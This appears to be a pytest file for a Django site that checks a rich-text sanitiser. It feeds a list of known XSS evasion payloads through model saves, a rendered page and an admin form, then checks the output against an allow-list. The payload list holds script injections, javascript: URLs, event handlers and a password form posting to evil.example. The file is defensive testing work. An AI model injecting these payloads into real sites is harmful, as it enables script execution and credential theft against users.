"""The one rich-text field: known XSS payloads never survive, whatever path the HTML takes in."""

import datetime
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.contrib.auth.models import User

from network.models import Page
from tests.factories import NetworkFactory
from tests.helpers import with_mfa

pytestmark = pytest.mark.django_db

# Collected from the OWASP XSS filter evasion cheat sheet, html5sec.org and mXSS write-ups.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>",
    '<a href="javascript:alert(1)">klik</a>',
    '<a href="JaVaScRiPt:alert(1)">klik</a>',
    '<a href="jav&#x09;ascript:alert(1)">klik</a>',
    '<a href=" &#14;  javascript:alert(1)">klik</a>',
    '<a href="vbscript:msgbox(1)">klik</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
    '<a href="https://example.org" onclick="alert(1)" onmouseover="alert(1)">klik</a>',
    '<a href="https://example.org" target="_blank" style="position:fixed;inset:0">klik</a>',
    "<p onmouseover=alert(1)>tekst</p>",
    '<p style="background:url(javascript:alert(1))">tekst</p>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<body onload=alert(1)>",
    '<form action="https://evil.example/"><input name="wachtwoord"><button>Verstuur</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<base href="https://evil.example/">',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<marquee onstart="alert(1)">x</marquee>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<div id="x" class="y" data-x="1">blok</div>',
    "<h1>Tweede h1</h1>",
    "<template><img src=x onerror=alert(1)></template>",
    '<a href="https://example.org">goed</a><strong>vet</strong>',
]

ALLOWED_TAGS = {"p", "strong", "em", "h2", "h3", "h4", "ul", "ol", "li", "blockquote", "br", "a"}
# A title attribute is harmless text (the sanitiser escapes it) and allowed on any tag.
ALLOWED_ATTRIBUTES = {"a": {"href", "title", "rel"}, "*": {"title"}}
ALLOWED_SCHEMES = {"http", "https", "mailto", "tel", ""}


class Inspector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name not in ALLOWED_ATTRIBUTES.get(tag, set()) | ALLOWED_ATTRIBUTES["*"]:
                self.problems.append(f"attribute {name} on <{tag}>")
            if name == "href" and urlsplit((value or "").strip()).scheme.lower() not in ALLOWED_SCHEMES:
                self.problems.append(f"href {value!r}")

    def handle_comment(self, data):
        self.problems.append("comment")


def problems(html):
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems


@pytest.fixture
def network():
    return NetworkFactory(name="Netwerk", short_name="N", slug="netwerk", region="vlaanderen", mission="<p>Missie</p>")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_saved_through_the_model_does_not_survive(network, payload):
    page = Page.objects.create(
        network=network, title="Proef", slug="proef", body=payload, last_reviewed=datetime.date(2026, 1, 1)
    )
    page.refresh_from_db()
    assert problems(page.body) == [], page.body
    network.mission = payload
    network.save()
    network.refresh_from_db()
    assert problems(network.mission) == [], network.mission


def test_every_payload_together_on_a_rendered_page(client, network):
    Page.objects.create(
        network=network, title="Proef", slug="proef", body="".join(PAYLOADS), last_reviewed=datetime.date(2026, 1, 1)
    )
    html = client.get("/netwerken/netwerk/proef/").content.decode()
    body = html[html.index('<div class="rich-text">') + len('<div class="rich-text">') : html.index("</article>")]
    body = body[: body.rindex("</div>", 0, body.index('<p class="muted">'))]
    assert problems(body) == [], body
    # What editors may use survives.
    assert '<a href="https://example.org">goed</a><strong>vet</strong>' in body


def test_payload_posted_through_the_admin_is_sanitised(client, network):
    client.force_login(with_mfa(User.objects.create_superuser("super", "s@example.org", "x")))
    response = client.post(
        "/beheer/network/page/add/",
        {
            "network": network.pk,
            "title": "Via beheer",
            "slug": "via-beheer",
            "intro": "",
            "position": 0,
            "published": "on",
            "last_reviewed": "2026-11-01",
            "body": "<p>Goed</p>" + "".join(PAYLOADS),
        },
    )
    assert response.status_code == 302
    body = Page.objects.get(slug="via-beheer").body
    assert body.startswith("<p>Goed</p>")
    assert problems(body) == [], body


def test_plain_formatting_is_kept(network):
    html = (
        "<h2>Kop</h2><p>Een <strong>vette</strong> en <em>schuine</em> zin.<br>Nieuwe regel.</p>"
        "<ul><li>een</li></ul><ol><li>twee</li></ol><blockquote><p>citaat</p></blockquote>"
        '<p><a href="mailto:info@example.org">mail</a> <a href="tel:+3220000000">bel</a></p>'
    )
    page = Page.objects.create(
        network=network, title="Opmaak", slug="opmaak", body=html, last_reviewed=datetime.date(2026, 1, 1)
    )
    page.refresh_from_db()
    assert page.body == html
